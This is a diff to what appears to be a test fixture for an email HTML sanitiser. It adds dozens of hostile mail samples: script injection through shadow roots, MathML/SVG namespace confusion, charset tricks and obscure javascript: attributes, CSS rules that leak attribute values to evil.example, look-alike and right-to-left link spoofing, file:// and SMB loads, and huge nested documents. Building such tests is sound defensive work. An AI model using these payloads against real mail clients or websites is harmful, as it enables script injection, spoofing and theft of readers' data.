@@ -1,5 +1,6 @@
-/** Hostile mails by the trick they try. `pwned` is what a script that runs would set. */
-const run = 'window.pwned=1';
+/** Hostile mails by the trick they try. `pwned` is what a script that runs would set, where it runs and on top. */
+const run = 'window.pwned=1,top.pwned=1';
+const RIGHT_TO_LEFT = '\u202e';
 
 export const hostileMails: Record<string, string> = {
   script: `<p>Hi</p><script>${run}</script>`,
@@ -76,4 +77,62 @@ export const hostileMails: Record<string, string> = {
   'null bytes': `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error=${run}>`,
   'very deep': `${'<div>'.repeat(400)}<img src=x onerror=${run}>`,
   'many attributes': `<p ${Array.from({ length: 2_000 }, (_, index) => `onx${index}=${run}`).join(' ')}>x</p>`,
+  'declarative shadow root': `<div><template shadowrootmode="open"><img src=x onerror="${run}"><slot></slot></template></div>`,
+  'declarative shadow root, serialisable': `<p><template shadowrootmode=closed shadowrootserializable><script>${run}</script></template>x</p>`,
+  'shadow root of an older name': `<div><template shadowroot="open"><style>@import "https://evil.example/x.css"</style><img src=x onerror=${run}></template></div>`,
+  'annotation in math': `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
+  'annotation that hides a style': `<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><img src=x onerror="${run}">--></style></annotation-xml></math>`,
+  'semantics in svg in math': `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror='${run}'>">`,
+  'plaintext to the end': `<p>Hi</p><plaintext><img src=x onerror=${run}></plaintext>`,
+  'xmp breakout': `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
+  'noembed breakout': `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
+  'noframes breakout': `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
+  'listing breakout': `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+  'select and option': `<select><option><style></option></select><img src=x onerror=${run}></style>`,
+  'select that holds a script': `<select><script>${run}</script><keygen><template><img src=x onerror=${run}></template></select>`,
+  'select in a table in math': `<math><mtext><select><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  'option in svg title': `<svg><title><option><style></title><img src=x onerror=${run}></style></option></svg>`,
+  'hints to fetch ahead': `<link rel=preload as=image href="https://evil.example/a"><link rel=prefetch href="https://evil.example/b"><link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example"><link rel=modulepreload href="https://evil.example/c.js"><link rel=prerender href="https://evil.example/d"><link rel=icon href="https://evil.example/e"><link rel=manifest href="https://evil.example/f">`,
+  'rules to load ahead': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/ahead"]}]}</script>`,
+  'preload of a set of images': `<link rel=preload as=image imagesrcset="https://evil.example/a 1x, https://evil.example/b 2x" imagesizes=100vw>`,
+  'image map': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" usemap="#m" width=200 height=200><map name=m><area shape=rect coords="0,0,200,200" href="javascript:${run}" onclick="${run}"><area href="https://evil.example/area" ping="https://evil.example/p"></map>`,
+  'svg set': `<svg><a><set attributeName=href to="javascript:${run}"></set><text y=20>x</text></a><set attributeName=onload to="${run}" /></svg>`,
+  'svg events of time': `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate><set onend="${run}" dur=1ms></set></svg>`,
+  'svg filter and mask': `<svg><filter id=f><feImage href="https://evil.example/f.png" xlink:href="https://evil.example/g.png"/></filter><mask id=m><image href="https://evil.example/m.png"/></mask><rect filter="url(#f)" mask="url(#m)" fill="url(https://evil.example/p.svg#x)" width=9 height=9 /></svg><p style="filter:url(https://evil.example/f.svg#x);mask:url(https://evil.example/m.svg);clip-path:url(https://evil.example/c.svg#y)">x</p>`,
+  'base in xml': `<svg xml:base="javascript:${run}//"><a xlink:href="#"><text y=20>x</text></a></svg><math xml:base="https://evil.example/" href="x">y</math>`,
+  'svg in an image set': `<img srcset="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)} 1x">`,
+  'css asks for attributes': `<style>a[href^="h"]{background:url(https://evil.example/h)} [value*="secret"]{background:url(https://evil.example/s)} :has(input[value^=a]){background:url(https://evil.example/b)}</style><a href="https://ok.example">x</a><input value="secret">`,
+  'css by size and letters': `<style>@media (min-width:1px){body{background:url(https://evil.example/w)}} @container (width>1px){p{background:url(https://evil.example/c)}} @supports (display:grid){p{background:url(https://evil.example/g)}} @font-face{font-family:y;src:url(https://evil.example/A);unicode-range:U+0041} *{font-family:y}</style><p>A</p>`,
+  'css in layers': `<style>@layer x{p{background:url(https://evil.example/l)}} @property --y{syntax:"<url>";inherits:false;initial-value:url(https://evil.example/p)} p::before{content:url(https://evil.example/q)} ::first-line{background:image(ltr url(https://evil.example/r))}</style><p>x</p>`,
+  'style closes itself': `<p style="color:red;}</style><img src=x onerror=${run}>">x</p><style>*{}/*</style><img src=x onerror=${run}>*/</style>`,
+  'style by other images': `<p style="border-image:url(https://evil.example/b) 1;shape-outside:url(https://evil.example/s);content:url(https://evil.example/c);background:cross-fade(url(https://evil.example/d),#fff);offset-path:url(https://evil.example/o)">x</p>`,
+  'pictures of this machine': `<img src="file:///etc/passwd"><img src="file://evil.example/share/x.png"><img src="smb://evil.example/share/x.png"><img src="\\\\evil.example\\share\\x.png"><img src="//evil.example\\x"><img src="blob:https://evil.example/1"><img src="filesystem:https://evil.example/1">`,
+  'another charset': `<meta charset="utf-7"><meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-<img src=x title="+ACI- onerror=+ACI-${run}+ACI-">`,
+  'another charset in japanese': `<meta charset="iso-2022-jp">\u001b(J<img alt="\u001b$B" title=" onerror=${run} \u001b(B">`,
+  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; img-src *; report-uri https://evil.example/csp"><meta http-equiv=set-cookie content="a=b"><img src="https://evil.example/i">`,
+  'javascript in forgotten attributes': `<blockquote cite="javascript:${run}">a</blockquote><q cite="javascript:${run}">b</q><ins cite="javascript:${run}">c</ins><img longdesc="javascript:${run}" usemap="javascript:${run}" dynsrc="javascript:${run}" lowsrc="javascript:${run}"><html manifest="javascript:${run}"><head profile="javascript:${run}"></head><table summary="javascript:${run}"><tr><td headers="javascript:${run}">d</table>`,
+  'javascript in links of other kinds': `<a xlink:href="javascript:${run}">a</a><a href=" &Tab;java&NewLine;script&colon;${run}">b</a><a href="JaVaScRiPt:${run}">c</a><a href="feed:javascript:${run}">d</a><a href="view-source:javascript:${run}">e</a><a href="jar:javascript:${run}">f</a><a href="blob:null/x">g</a><a href="about:blank">h</a>`,
+  'reading direction in a link': `<a href="https://evil.example/x">${RIGHT_TO_LEFT}moc.knab.www//:sptth</a>`,
+  'look-alike letters in a link': `<a href="https://xn--pple-43d.com">https://apple.com</a><a href="https://\u0430pple.com/">apple.com</a><a href="https://bank.example@evil.example/">bank.example</a><a href="https://bank.example%2f@evil.example">https://bank.example/</a>`,
+  'nothing but a link over all': `<a href="https://evil.example" style="display:block;width:99999px;height:99999px;margin:-9999px">x</a>`,
+  'attributes twice': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" src=x onerror="x" onerror="${run}" ONERROR="${run}">`,
+  'odd ends of tags': `<img src=x onerror=${run} / ><img src=x onerror="${run}"/x><a\u000bhref="javascript:${run}">x</a><img src=x onerror\u000c=${run}><<script>${run}//<</script>`,
+  'frames that are not frames': `<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe><webview src="https://evil.example" nodeintegration></webview><iframe src="data:text/html,<script>${run}</script>"></iframe><embed src="data:text/html,<script>${run}</script>"><object type="text/html" data="data:text/html,<script>${run}</script>"></object>`,
+  'form that is elsewhere': `<form id=f action="https://evil.example/f"></form><button form=f>Send</button><input type=image form=f src="https://evil.example/i" onerror=${run}><input type=submit formaction="javascript:${run}"><isindex prompt=x>`,
+  'media that load': `<audio src="https://evil.example/a" autoplay></audio><video><source src="https://evil.example/v"><track src="https://evil.example/t" default></video><bgsound src="https://evil.example/b"><input type=image src="https://evil.example/i"><embed src="https://evil.example/e"><object data="https://evil.example/o" codebase="https://evil.example/"></object>`,
+  'events that come by themselves': `<p onpointerrawupdate="${run}" onscrollsnapchange="${run}" oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">x</p><details ontoggle=${run} open>y</details><p ontransitionend=${run} onanimationstart=${run} onfocusin=${run} tabindex=0 autofocus>z</p>`,
+};
+
+/** Mails that are only large, or deeper than any that people write: for a real browser, whose parser has a floor. */
+export const heavyMails: Record<string, string> = {
+  'deep beyond the parser': `${'<div>'.repeat(10_500)}<img src=x onerror=${run}>`,
+  'deep in lists and fonts': `${'<ul><li><font><b>'.repeat(3_000)}<script>${run}</script>`,
+  'tables in tables': `${'<table><tbody><tr><td>'.repeat(600)}<img src=x onerror=${run}>`,
+  'quotes in quotes': `${'<blockquote>On 1 May 2024, Eve wrote:<br>'.repeat(2_000)}<img src=x onerror=${run}>`,
+  'formatting that multiplies': `${'<b><i><u><s>'.repeat(800)}${'<p>'.repeat(800)}<img src=x onerror=${run}>`,
+  'a megabyte of words': '<p>word <b>word</b></p>'.repeat(45_000),
+  'a megabyte in one line': `<p>${'a'.repeat(1_000_000)}<img src=x onerror=${run}>`,
+  'a megabyte of links': `<a href="https://evil.example">x</a>`.repeat(28_000),
+  'a megabyte of styles':
+    `<p style="color:red;background:url(https://evil.example/x);margin:0 1px 2px 3px">x</p>`.repeat(11_000),
 };
